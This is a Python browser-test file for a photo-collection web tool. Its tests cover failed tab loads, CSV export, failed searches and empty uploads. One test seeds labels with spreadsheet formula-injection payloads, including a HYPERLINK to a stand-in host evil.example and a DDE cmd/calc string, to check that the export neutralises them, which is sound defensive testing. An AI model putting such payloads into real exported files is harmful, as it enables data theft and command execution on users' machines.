"""Front-end behaviour of `strata web`'s pages in a real headless Chromium against a real
Strata server (SQLite or PostgreSQL), beyond tests/test_web.py: a label tab whose load fails
says why and loads again on the next click, the map's CSV export is safe to open in a
spreadsheet, a failed search leaves no stale hits and names the file, and an empty file is
named as such on the add page (and the search page)."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from photos import distorted, jpeg, photo, photo_crops
from test_web import driver, grpc_client, no_js_errors, page, shots, wait_for, web
from web_browser import WebProcess, browser_errors, screenshot

from service.client import ImageToAdd, StrataClient

__all__ = ["driver", "grpc_client", "shots", "web"]  # fixtures shared with test_web.py

pytestmark = pytest.mark.timeout(300)

QUICK = 60  # seconds: what a page does at once (a failed load, a local check)


@pytest.fixture(scope="module")
def crops_collection(grpc_client: StrataClient) -> Iterator[str]:
    """8 unlabelled photo crops, plus the photos coffee and chelsea: nobody's label yet."""
    name = f"pages-{uuid.uuid4().hex[:8]}"
    grpc_client.create_collection(name)
    images = [ImageToAdd(uri, data) for uri, data in photo_crops(8)]
    images += [ImageToAdd(f"skimage/{n}.jpg", jpeg(photo(n))) for n in ("coffee", "chelsea")]
    results = list(grpc_client.add_images(name, images))
    assert [r.status for r in results] == ["added"] * len(images), results
    yield name
    grpc_client.delete_collection(name)


def no_script_errors(driver: Any) -> None:
    """No uncaught exception: the 4xx answers a test asks for are logged too, and left out."""
    errors = [e for e in browser_errors(driver) if "Failed to load resource" not in e]
    assert not errors, errors


def visit(driver: Any, web: WebProcess, path: str) -> None:
    """`page`, the console's messages of earlier pages dropped."""
    browser_errors(driver)
    page(driver, web, path)


def _toast(driver: Any) -> str:
    return str(
        driver.execute_script(
            "const t = document.getElementById('toast'); return t.hidden ? '' : t.textContent"
        )
    )


# -- labels: a tab whose load failed ------------------------------------------------------------


def test_a_label_tab_that_fails_to_load_says_why_and_loads_again_when_asked(
    driver: Any, web: WebProcess, grpc_client: StrataClient, shots: Path
) -> None:
    """Issues needs human labels: on a collection with none its load fails. The card says why
    (not "loading…" forever); a click of the tab and the Retry button load it again."""
    name = f"issues-{uuid.uuid4().hex[:8]}"
    grpc_client.create_collection(name)
    try:
        added = list(grpc_client.add_images(name, [ImageToAdd(u, d) for u, d in photo_crops(6)]))
        visit(driver, web, f"/collections/{name}/labels?tab=issues")
        wait_for(driver, "document.getElementById('issues-card').dataset.state === 'error'", QUICK)
        card = driver.find_element("id", "issues-card")
        error = card.find_element("css selector", ".error")
        assert "FAILED_PRECONDITION" in error.text and "human labels" in error.text, error.text
        assert "loading" not in card.text
        # The server's words as text, never as markup.
        assert not error.find_elements("css selector", "*")
        screenshot(driver, "labels-issues-failed", shots)

        # Another click of the tab asks again (the card is drawn anew: the mark goes).
        driver.execute_script("document.querySelector('#issues-card .error').dataset.old = '1'")
        driver.find_element("css selector", '#tabs button[data-tab="suggest"]').click()
        driver.find_element("css selector", '#tabs button[data-tab="issues"]').click()
        wait_for(
            driver,
            "document.getElementById('issues-card').dataset.state === 'error'"
            " && !document.querySelector('#issues-card .error[data-old]')",
            QUICK,
        )

        # With labels of two classes the issues load: Retry, no reload of the page.
        ids = [r.id for r in added]
        grpc_client.set_labels(name, {ids[0]: "a", ids[1]: "a", ids[2]: "b", ids[3]: "b"})
        card.find_element("css selector", "button.retry").click()
        wait_for(driver, "document.getElementById('issues-card').dataset.state === 'done'")
        assert not card.find_elements("css selector", ".error")
        assert "loading" not in card.text
        classes = driver.execute_script(
            "return [...document.querySelectorAll('#issues-classes li')]"
            ".map(li => li.dataset.class)"
        )
        assert sorted(classes) == ["a", "b"], classes
        no_script_errors(driver)
    finally:
        grpc_client.delete_collection(name)


# -- map: Export CSV ----------------------------------------------------------------------------


def _export_csv(driver: Any) -> str:
    """Select every point, click Export CSV and return the file's text (the Blob handed to
    URL.createObjectURL, as the download would save it)."""
    driver.execute_script(
        "window.__csv = null;"
        "const make = URL.createObjectURL.bind(URL);"
        "URL.createObjectURL = (blob) => { blob.text().then(t => { window.__csv = t; });"
        " return make(blob); };"
        "const m = window.strataMap; m.setSelection([...m.scatter.ids.keys()]);"
    )
    driver.find_element("id", "export-csv").click()
    return str(wait_for(driver, "window.__csv", QUICK))


def test_map_csv_export_neutralises_formulas_and_leaves_numbers_alone(
    driver: Any, web: WebProcess, crops_collection: str, grpc_client: StrataClient
) -> None:
    items = grpc_client.list_items(crops_collection, page_size=1000).items
    labels = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "=cmd|' /C calc'!A0",
        'cat, "fluffy"\nsecond line',
        "plain",
    ]
    given = {items[i].id: label for i, label in enumerate(labels)}
    grpc_client.set_labels(crops_collection, given)
    try:
        visit(driver, web, f"/collections/{crops_collection}/map?depth=semantics")
        wait_for(driver, f"document.getElementById('map').dataset.points === '{len(items)}'")
        text = _export_csv(driver)
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0] == ["id", "x", "y", "label", "predicted", "confidence"]
        body = {int(r[0]): r for r in rows[1:]}
        assert sorted(body) == sorted(i.id for i in items)
        for item_id, label in given.items():
            expected = f"'{label}" if label[0] in "=+-@\t\r" else label
            assert body[item_id][3] == expected, (label, body[item_id])
        for item in items:
            if item.id not in given:
                assert body[item.id][3] == ""
        # Every text cell is quoted; ids and coordinates are bare numbers, negative ones too.
        projection = grpc_client.get_projection(crops_collection, depth="semantics")
        ids = np.frombuffer(projection.ids, "<i8")
        xy = np.frombuffer(projection.xy, "<f4").reshape(-1, 2)
        expected_xy = {int(i): (float(x), float(y)) for i, (x, y) in zip(ids, xy, strict=True)}
        negatives = 0
        for row in rows[1:]:
            x, y = float(row[1]), float(row[2])
            assert (x, y) == pytest.approx(expected_xy[int(row[0])], abs=1e-6)
            assert f"\n{row[0]},{row[1]},{row[2]}," in text  # unquoted, no leading '
            negatives += row[1].startswith("-") + row[2].startswith("-")
        assert negatives, "a projection into [-1, 1] has some negative coordinate"
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text
        no_js_errors(driver)
    finally:
        grpc_client.clear_labels(crops_collection, list(given))


# -- search: a failed search --------------------------------------------------------------------


def test_a_failed_search_clears_the_old_hits_and_names_the_file(
    driver: Any, web: WebProcess, crops_collection: str, tmp_path: Path
) -> None:
    good = tmp_path / "coffee-edited.jpg"
    good.write_bytes(distorted(photo("coffee")))
    broken = tmp_path / "holiday-snap.jpg"
    broken.write_bytes(b"these bytes are no picture")
    empty = tmp_path / "nothing.jpg"
    empty.write_bytes(b"")
    visit(driver, web, f"/collections/{crops_collection}/search")
    field = driver.find_element("id", "file")
    field.send_keys(str(good))
    wait_for(driver, "document.getElementById('results').dataset.state === 'done'")
    assert driver.find_elements("css selector", "#results .hit")
    assert driver.find_element("id", "tags").text

    for path, words in (
        (broken, "'holiday-snap.jpg': not a recognised image"),
        (empty, "nothing.jpg: the file is empty (0 bytes)"),
    ):
        driver.execute_script(
            "document.getElementById('results').dataset.state = '';"
            "document.getElementById('toast').hidden = true;"
            "arguments[0].value = '';",
            field,
        )
        field.send_keys(str(path))
        wait_for(driver, "document.getElementById('results').dataset.state === 'error'", QUICK)
        # No hit of the previous query stays under this file's preview.
        assert not driver.find_elements("css selector", "#results .hit")
        assert not driver.find_element("id", "tags").text
        shown = [_toast(driver), driver.find_element("id", "status").text]
        for message in shown:
            assert words in message, shown
            assert "image 0" not in message and "empty upload" not in message, shown
    no_script_errors(driver)


# -- add: an empty file -------------------------------------------------------------------------


def test_add_page_names_an_empty_file_as_empty(
    driver: Any,
    web: WebProcess,
    crops_collection: str,
    grpc_client: StrataClient,
    tmp_path: Path,
) -> None:
    good = tmp_path / "rocket-fresh.jpg"
    good.write_bytes(jpeg(photo("rocket").rotate(90, expand=True)))
    empty = tmp_path / "empty.jpg"
    empty.write_bytes(b"")
    visit(driver, web, f"/collections/{crops_collection}/add")
    driver.find_element("id", "add-files").send_keys(f"{good}\n{empty}")
    wait_for(driver, "document.getElementById('add-status').dataset.state === 'done'")
    assert driver.find_element("id", "add-progress").get_attribute("value") == "2"
    failures = [li.text for li in driver.find_elements("css selector", "#add-failures li")]
    assert failures == ["empty.jpg: the file is empty (0 bytes)"], failures
    status = driver.find_element("id", "add-status").text
    assert "1 added" in status and "1 failed" in status, status
    uris = {i.uri for i in grpc_client.list_items(crops_collection, page_size=1000).items}
    assert "upload/rocket-fresh.jpg" in uris and "upload/empty.jpg" not in uris
    no_js_errors(driver)
